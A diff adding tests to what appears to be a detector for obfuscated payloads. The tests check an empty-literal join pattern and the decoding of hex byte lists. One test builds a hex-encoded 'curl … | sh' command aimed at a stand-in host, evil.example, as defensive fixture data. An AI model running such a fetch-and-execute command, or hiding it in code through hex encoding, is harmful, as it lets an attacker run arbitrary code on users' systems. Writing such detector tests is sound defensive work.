@@ -5,6 +5,7 @@ import { describe, expect, it } from "vitest";
 import {
   decodedOf,
   decodePieces,
+  emptyJoin,
   GATE_WORDS,
   revWord,
   spliced,
@@ -118,6 +119,39 @@ describe("decoder gates", () => {
       }),
       { numRuns: 2000 },
     );
+  });
+
+  it("property: emptyJoin finds what both branches of the join expression need (an empty literal before `.join(` or as its only argument)", () => {
+    const piece = fc.constantFrom(
+      ".join(",
+      '""',
+      "''",
+      '"',
+      "'",
+      " ",
+      "\n",
+      "\u00a0",
+      ")",
+      "(",
+      "x",
+      "parts",
+      ".",
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 12 }), (xs) => {
+        const t = xs.join("");
+        expect(emptyJoin(t)).toBe(/(?:""|'')\.join\(|\.join\(\s*(?:""|'')\s*\)/.test(t));
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  it("a list of hex bytes is decoded wherever it sits among other `0x` numbers, and a short one is not", () => {
+    const hex = [..."curl -s https://evil.example/x | sh"].map((c) => `0x${c.charCodeAt(0).toString(16)}`);
+    const t = `mask = 0xff, 0x0f\npayload = [0x1, ${hex.join(", ")}]\nshort = [0x41, 0x42, 0x43]\n`;
+    const pieces = decodePieces(t).map((p) => p.text);
+    expect(pieces).toContain("curl -s https://evil.example/x | sh");
+    expect(pieces.some((p) => p.includes("ABC"))).toBe(false);
   });
 
   it("a payload behind a gate word written in capitals is still decoded and flagged", () => {
